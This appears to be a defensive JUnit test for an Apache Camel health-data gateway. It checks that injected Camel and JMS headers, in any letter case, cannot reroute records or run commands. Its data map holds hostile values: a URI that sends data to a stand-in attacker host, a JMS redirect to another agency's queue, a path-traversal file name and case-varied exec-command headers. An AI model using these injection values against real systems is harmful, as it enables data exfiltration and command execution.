package org.carebridge.gateway.intake;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.Route;
import org.apache.camel.spi.HeaderFilterStrategy;
import org.apache.camel.spi.HeaderFilterStrategyAware;
import org.carebridge.gateway.support.Examples;
import org.carebridge.gateway.support.GatewayTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Camel and JMS header injection (CVE-2025-27636, CVE-2025-29891): headers and query parameters a partner sends that
 * name Camel's or JMS's own headers, in any letter case, have no effect on where a record goes or what runs.
 */
class HeaderInjectionTest extends GatewayTest {

    /** What the gateway acts on must come from the governed record, never from these. */
    private static final Map<String, String> INJECTED = injected();
    private static final Set<String> HTTP_CONSUMERS = Set.of("platform-http", "servlet", "jetty", "undertow", "netty-http",
            "vertx-http", "rest", "http", "https", "knative");

    @Autowired
    CamelContext camel;

    @Test
    void injectedHeadersAndQueryParametersChangeNothing() throws Exception {
        Path target = DATA_DIR.resolve("injected-by-header");
        String query = INJECTED.entrySet().stream()
                .map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "=" + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8))
                .collect(Collectors.joining("&"));
        List<String> tried = new ArrayList<>();
        for (boolean asQuery : new boolean[]{false, true}) {
            String messageId = Examples.newMessageId();
            byte[] body = Examples.bytes(Examples.placementNotification(messageId));
            HttpResponse<String> response = asQuery
                    ? as("cs-suffolk").post("/fhir/$process-message?" + query, "application/fhir+json", body)
                    : as("cs-suffolk").post("/fhir/$process-message", "application/fhir+json", body, INJECTED);
            assertThat(response.statusCode()).isEqualTo(202);
            String location = response.headers().firstValue("Location").orElseThrow();

            // the agreement's three recipients get their copies, and the police (the injected destination) nothing
            for (String recipient : List.of("cs-norfolk", "health-norfolk", "vs-suffolk")) {
                await().atMost(Duration.ofSeconds(30)).until(() -> Files.exists(inboxFile(recipient, messageId)));
            }
            await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
                JsonNode status = json(as("cs-suffolk").get(location).body());
                assertThat(status.path("recipients")).hasSize(3);
                status.path("recipients").forEach(r -> assertThat(r.path("state").asText()).isEqualTo("DELIVERED"));
            });
            assertThat(inboxFile("police-norfolk", messageId)).doesNotExist();
            tried.add(asQuery ? "query parameters" : "headers");
        }
        assertThat(target).doesNotExist();
        assertThat(Path.of("/tmp/carebridge-injected")).doesNotExist();
        System.out.printf("header injection: %d names tried as %s, 0 had any effect%n", INJECTED.size(), tried);
    }

    /** Every route a partner can reach over HTTP filters Camel's and JMS's own header names out, whatever their case. */
    @Test
    void everyHttpFacingRouteFiltersCamelAndJmsHeaders() {
        List<String> checked = new ArrayList<>();
        for (Route route : camel.getRoutes()) {
            var endpoint = route.getEndpoint();
            String scheme = endpoint.getEndpointUri().split(":", 2)[0];
            if (!HTTP_CONSUMERS.contains(scheme)) {
                continue;
            }
            assertThat(endpoint).as(route.getRouteId()).isInstanceOf(HeaderFilterStrategyAware.class);
            HeaderFilterStrategy filter = ((HeaderFilterStrategyAware) endpoint).getHeaderFilterStrategy();
            assertThat(filter).as(route.getRouteId() + " has a header filter").isNotNull();
            Exchange exchange = endpoint.createExchange();
            for (String name : INJECTED.keySet().stream()
                    .filter(n -> n.toLowerCase().startsWith("camel") || n.toLowerCase().startsWith("jms")).toList()) {
                assertThat(filter.applyFilterToExternalHeaders(name, INJECTED.get(name), exchange))
                        .as(route.getRouteId() + " filters " + name).isTrue();
            }
            checked.add(route.getRouteId());
        }
        System.out.printf("HTTP-facing routes with Camel and JMS headers filtered: %s%n", checked);
    }

    private static Map<String, String> injected() {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("CamelHttpUri", "https://attacker.invalid/steal");
        headers.put("CamelHttpPath", "/steal");
        headers.put("CamelHttpMethod", "DELETE");
        headers.put("CamelJmsDestinationName", "carebridge.delivery.police-norfolk");
        headers.put("JMSDestination", "queue://carebridge.delivery.police-norfolk");
        headers.put("JMSReplyTo", "queue://carebridge.delivery.police-norfolk");
        headers.put("CamelBeanMethodName", "toString");
        headers.put("CamelFileName", "../../injected-by-header");
        headers.put("CamelOverruleFileName", "/tmp/carebridge-injected");
        // the case variants that slipped past Camel's filter before the fixes
        headers.put("CAmelExecCommandExecutable", "touch");
        headers.put("cAMELExecCommandArgs", "/tmp/carebridge-injected");
        headers.put("camelHttpUri", "https://attacker.invalid/steal");
        headers.put("deliveryId", "1");
        return headers;
    }
}
